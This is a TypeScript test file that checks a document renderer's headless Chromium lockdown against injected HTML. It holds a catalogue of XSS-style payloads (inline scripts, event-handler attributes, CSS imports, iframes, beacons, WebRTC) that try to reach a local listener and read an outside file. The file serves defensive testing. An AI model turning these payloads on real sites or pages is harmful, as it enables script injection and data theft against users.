// The renderer's second line of defence, attacked directly: hostile HTML handed to the
// real BrowserSession (as if the pipeline's sanitizer had let everything through), a
// page whose CSP is switched off so that only the browser-level measures stand, and
// the `--format html` output opened in a stock Chromium. An attacker's HTTP, WebSocket
// and UDP server on 127.0.0.1 counts what reaches it: nothing may.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { fromHtml } from 'hast-util-from-html';
import type { ElementContent } from 'hast';
import puppeteer, { type Browser } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isHeadlessShell } from '../src/browser/find-chromium.js';
import { LayoutLossError } from '../src/browser/layout-integrity.js';
import { LOCKDOWN_FLAGS, lockDownPage } from '../src/browser/lockdown.js';
import { openBrowser, type BrowserSession } from '../src/browser/session.js';
import { printPageCsp } from '../src/csp.js';
import { renderHtml } from '../src/render/html.js';
import { preparePrint } from '../src/render/pdf.js';
import { sampleConfig, samplePart } from './fixtures/pdf-sample.js';
import { descendantsOf, listeningPorts } from './helpers/processes.js';
import { listen, type Listener } from './helpers/listener.js';
import { squash } from './helpers/poppler.js';
import { copyFixture, pamphlet } from './helpers/cli.js';

/** A reader's browser, for the web page: the full Chromium. */
const CHROMIUM = '/usr/bin/chromium';
/**
 * The browsers a build may print with: the headless shell it takes first, and the full
 * Chromium it falls back to (find-chromium.ts). `make` installs both; the promises must
 * hold in either.
 */
const PRINT_BROWSERS = ['/usr/lib/chromium/chromium-headless-shell', CHROMIUM];
/** A tiny valid PNG (1 × 1, red). */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC', 'base64');

let server: Listener;
let scratch: string;

beforeAll(async () => {
  server = await listen();
  scratch = mkdtempSync(join(tmpdir(), 'pamphlet-lockdown-test-'));
});

afterAll(async () => {
  await server.close();
  rmSync(scratch, { recursive: true, force: true });
});

/** Everything an attacker would try from the text of a page, aimed at our server. */
function hostileBody(port: number): string {
  const at = (path: string): string => `http://127.0.0.1:${port}/${path}`;
  const ws = (path: string): string => `ws://127.0.0.1:${port}/${path}`;
  return `
<script>document.body.insertAdjacentText('beforeend', ' SCRIPT-RAN ')</script>
<script>fetch('${at('fetch')}')</script>
<script>new WebSocket('${ws('script')}')</script>
<script>new Worker('data:text/javascript,fetch("${at('worker')}")')</script>
<script>location.href = '${at('location')}'</script>
<script src="${at('script.js')}"></script>
<p>A <details title=">" open ontoggle="new WebSocket('${ws('ontoggle')}')">x</details> word.</p>
<img src="${at('img')}" alt="">
<img src="x.png" onerror="fetch('${at('onerror')}')" alt="">
<img src="y.png" srcset="${at('srcset')} 2x" alt="">
<img src="relative-to-base.png" alt="">
<p style="background:url(${at('style-attribute')})">Styled.</p>
<style>@import url(${at('import.css')}); .x { background: url(${at('style-element')}) } @font-face { font-family: Evil; src: url(${at('font')}) } .x { font-family: Evil, serif }</style>
<p class="x">Classed.</p>
<iframe src="${at('iframe')}"></iframe>
<iframe srcdoc="<script>new WebSocket('${ws('srcdoc')}')</script>"></iframe>
<meta http-equiv="refresh" content="0;url=${at('refresh')}">
<link rel="preconnect" href="${at('')}">
<link rel="dns-prefetch" href="${at('')}">
<link rel="prefetch" href="${at('prefetch')}">
<object data="${at('object')}"></object>
<embed src="${at('embed')}">
<video poster="${at('poster')}" src="${at('video')}"></video>
<svg><image href="${at('svg-image')}" width="10" height="10"/></svg>
<form action="${at('form')}"><input autofocus onfocus="this.form.submit()"></form>
<a ping="${at('ping')}" href="${at('link')}">A link.</a>
<p>The hostile page still prints.</p>`;
}

/** What goes into the <head> before our own tags: a <base>, a refresh, an early script. */
function hostileHead(port: number): string {
  return `<base href="http://127.0.0.1:${port}/base/"><meta http-equiv="refresh" content="1;url=http://127.0.0.1:${port}/head-refresh"><script>fetch('http://127.0.0.1:${port}/head-script')</script>`;
}

describe.each(PRINT_BROWSERS)('the print renderer (BrowserSession in %s), fed hostile HTML directly', (executablePath) => {
  let session: BrowserSession;
  // Each browser's files apart, so that the second run finds none of the first's.
  let here = '';
  beforeAll(async () => {
    here = join(scratch, basename(executablePath));
    mkdirSync(here, { recursive: true });
    session = await openBrowser({ executablePath, timeout: 60_000 });
  });
  afterAll(async () => {
    await session?.close();
  });

  it('runs no script, makes no request and still prints the PDF (then refused for the lines it pushed off the page)', async () => {
    const manuscriptDir = join(here, 'manuscript');
    const workDir = join(here, 'work');
    mkdirSync(join(manuscriptDir, 'images'), { recursive: true });
    mkdirSync(workDir, { recursive: true });
    const job = await preparePrint(samplePart(), sampleConfig(manuscriptDir), { variant: 'pamphlet', workDir });
    const html = readFileSync(job.htmlPath, 'utf8')
      .replace('<head>', `<head>${hostileHead(server.port)}`)
      .replace('</main>', `${hostileBody(server.port)}</main>`);
    expect(html).toContain('ontoggle');
    writeFileSync(job.htmlPath, html);
    const before = server.hits.length;

    const pdf = join(here, 'hostile.pdf');
    // The autofocused input scrolls the page's content box sideways, so the lines after it run
    // past the page's edge, where the print cuts them off ("Questions for discussion" printed as
    // "…begin in the advan"): the block check refuses the layout once it is printed. What was
    // printed is read all the same, for what ran and what it asked for.
    let printed: Uint8Array | undefined;
    const outcome = await session
      .paginate({ htmlPath: job.htmlPath, allowedRoots: job.allowedRoots, label: 'hostile', timeout: 60_000, onPrinted: (bytes) => (printed = bytes) })
      .then((bytes) => bytes, (error: unknown) => error);
    await new Promise((resolve) => setImmediate(resolve));
    if (outcome instanceof Uint8Array) printed = outcome;
    else {
      expect(outcome).toBeInstanceOf(LayoutLossError);
      expect((outcome as LayoutLossError).lost.length).toBeGreaterThan(0);
      expect((outcome as LayoutLossError).lost.every((block) => block.edge === true)).toBe(true);
    }
    expect(printed).toBeDefined();
    writeFileSync(pdf, printed!);
    // Anything late (a refresh after a second, a socket retrying) has time to arrive.
    await new Promise((resolve) => setTimeout(resolve, 1500));

    expect(server.hits.slice(before)).toEqual([]);
    const text = execFileSync('pdftotext', ['-enc', 'UTF-8', pdf, '-'], { encoding: 'utf8' });
    expect(squash(text)).toContain(squash('The hostile page still prints.'));
    expect(squash(text)).toContain(squash('Capitalist Development'));
    expect(text).not.toContain('SCRIPT-RAN');
  });

  it('paginates a document with no <head> tag, where Paged.js cannot be served with it', async () => {
    // Paged.js is served right after the document's <head> tag; without one it is inserted after the load.
    const dir = join(here, 'no-head');
    mkdirSync(dir, { recursive: true });
    const htmlPath = join(dir, 'page.html');
    writeFileSync(htmlPath, '<!doctype html><meta charset="utf-8"><p>A page without a head tag.</p>');
    const pdf = join(here, 'no-head.pdf');
    writeFileSync(pdf, await session.paginate({ htmlPath, allowedRoots: [dir], label: 'no-head', timeout: 60_000 }));
    expect(squash(execFileSync('pdftotext', ['-enc', 'UTF-8', pdf, '-'], { encoding: 'utf8' }))).toContain(squash('A page without a head tag.'));
  });

  it('listens on no port: its Chromium is driven over a pipe that only this process holds', () => {
    // Puppeteer's default is a DevTools port on 127.0.0.1, without authentication, open for
    // the whole build: any local user could drive the browser through it and read files.
    const chromium = descendantsOf(process.pid).filter(({ cmdline }) => cmdline.includes(`--user-data-dir=${tmpdir()}/pamphlet-chromium-`));
    const browser = chromium.filter(({ cmdline }) => !cmdline.includes('--type='));
    expect(browser).toHaveLength(1);
    expect(browser[0]!.cmdline).toContain('--remote-debugging-pipe');
    expect(browser[0]!.cmdline).not.toContain('--remote-debugging-port');
    expect(listeningPorts(chromium.map(({ pid }) => pid))).toEqual([]);
  });

  it('reads no file outside the allowed folders, not even through a symlink inside one', async () => {
    const root = join(here, 'links');
    const outside = join(here, 'outside');
    mkdirSync(join(root, 'images'), { recursive: true });
    mkdirSync(outside, { recursive: true });
    writeFileSync(join(root, 'images', 'inside.png'), PNG);
    writeFileSync(join(outside, 'secret.png'), PNG);
    symlinkSync(join(outside, 'secret.png'), join(root, 'images', 'link.png'));
    const htmlPath = join(root, 'page.html');
    const img = (file: string): string => `<p><img src="${pathToFileURL(file).href}" alt="" style="width:20mm"></p>`;
    writeFileSync(
      htmlPath,
      `<!doctype html><html><head><meta charset="utf-8"></head><body><p>Images:</p>${img(join(root, 'images', 'inside.png'))}${img(join(root, 'images', 'link.png'))}${img(join(outside, 'secret.png'))}</body></html>`,
    );
    const pdf = join(here, 'links.pdf');
    writeFileSync(pdf, await session.paginate({ htmlPath, allowedRoots: [root], label: 'links', timeout: 60_000 }));
    // One picture only: the file inside; neither the link nor the file it points to.
    const images = execFileSync('pdfimages', ['-list', pdf], { encoding: 'utf8' }).trim().split('\n').slice(2);
    expect(images).toHaveLength(1);
  });
});

describe.each(PRINT_BROWSERS)('the browser-level measures alone in %s (the page’s CSP switched off)', (executablePath) => {
  let browser: Browser;
  let here = '';
  beforeAll(async () => {
    here = join(scratch, `bare-${basename(executablePath)}`);
    mkdirSync(here, { recursive: true });
    browser = await puppeteer.launch({ executablePath, headless: isHeadlessShell(executablePath) ? 'shell' : true, args: ['--no-sandbox', ...LOCKDOWN_FLAGS] });
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('lets no connection, request, socket, worker, popup or navigation out, and reads no outside file', async () => {
    const root = join(here, 'bare');
    mkdirSync(root, { recursive: true });
    const htmlPath = join(root, 'page.html');
    writeFileSync(htmlPath, '<!doctype html><html><head><meta charset="utf-8"></head><body><p>bare</p><script>window.inlineRan = true</script></body></html>');
    writeFileSync(join(here, 'outside-secret.txt'), 'TOP SECRET');
    const page = await browser.newPage();
    await page.setBypassCSP(true);
    const url = await lockDownPage(page, { documentPath: htmlPath, allowedRoots: [root], csp: printPageCsp('unused') });
    await page.goto(url, { waitUntil: 'load' });
    // The policy is really off: the page's own inline script ran.
    expect(await page.evaluate(() => (window as unknown as { inlineRan?: boolean }).inlineRan)).toBe(true);

    const before = server.hits.length;
    const secretUrl = pathToFileURL(join(here, 'outside-secret.txt')).href;
    const outcome = await page.evaluate(
      async (port: number, secret: string) => {
        const at = (path: string): string => `http://127.0.0.1:${port}/${path}`;
        const settle = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
        const read: string[] = [];
        await fetch(at('fetch')).then((r) => r.text()).then((t) => read.push(t), () => undefined);
        await fetch(secret).then((r) => r.text()).then((t) => read.push(t), () => undefined);
        try {
          const xhr = new XMLHttpRequest();
          xhr.open('GET', secret, false);
          xhr.send();
          read.push(xhr.responseText);
        } catch {
          // refused
        }
        new WebSocket(`ws://127.0.0.1:${port}/socket`);
        new EventSource(at('event-source'));
        navigator.sendBeacon(at('beacon'), 'x');
        const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker-fetch')}'); new WebSocket('ws://127.0.0.1:${port}/worker-socket');`], { type: 'text/javascript' })));
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
        const frame = document.createElement('iframe');
        frame.src = at('iframe');
        document.body.append(frame);
        const image = new Image();
        image.src = at('image');
        window.open(at('popup'));
        const link = document.createElement('link');
        link.rel = 'preconnect';
        link.href = at('');
        document.head.append(link);
        await settle(1500);
        worker.terminate();
        peer.close();
        location.href = at('navigation');
        return read;
      },
      server.port,
      secretUrl,
    );
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(outcome).toEqual([]);
    expect(server.hits.slice(before)).toEqual([]);
    // The navigation was refused: the page is still ours.
    expect(page.url()).toBe(url);
    expect((await browser.pages()).map((p) => p.url())).not.toContain(`http://127.0.0.1:${server.port}/popup`);
    await page.close();
  });
});

describe('the --format html output', () => {
  let browser: Browser;
  beforeAll(async () => {
    // A stock Chromium, as a reader would open the file: none of our flags or interception.
    browser = await puppeteer.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox'] });
  });
  afterAll(async () => {
    await browser?.close();
  });

  /** Opens `file` and waits; returns what reached the server meanwhile. */
  async function open(file: string): Promise<{ hits: string[]; text: string }> {
    const before = server.hits.length;
    const page = await browser.newPage();
    await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const text = await page.evaluate(() => document.body.innerText);
    await page.close();
    return { hits: server.hits.slice(before), text };
  }

  it('fetches nothing when a built manuscript with a table, an image and a link is opened', async () => {
    const dir = copyFixture('table-image-link');
    const result = pamphlet(['build', 'manuscript', '--format', 'html', '--out', 'out', '--quiet'], dir);
    // Its picture is tiny on purpose: the one warning is about print resolution.
    expect(result.stderr).not.toMatch(/error:/);
    expect(result.status).toBe(0);
    const { hits, text } = await open(join(dir, 'out', 'a-test-series-1.html'));
    expect(hits).toEqual([]);
    expect(text).toContain('Bolsheviks');
    rmSync(dir, { recursive: true, force: true });
  });

  it('runs no script and fetches nothing even with hostile markup in the text', async () => {
    const doc = samplePart();
    // Less the one thing renderHtml itself refuses: a remote image it cannot package.
    const markup = hostileBody(server.port).replace(/<img src="http[^>]*>/, '');
    const hostile = fromHtml(markup, { fragment: true }).children as ElementContent[];
    doc.body.children.push(...hostile);
    const html = renderHtml(doc, sampleConfig(scratch), { css: 'body { color: black }', readAsset: () => PNG });
    const file = join(scratch, 'hostile.html');
    writeFileSync(file, html);
    const { hits, text } = await open(file);
    expect(hits).toEqual([]);
    expect(text).toContain('The hostile page still prints.');
    expect(text).not.toContain('SCRIPT-RAN');
  });
});
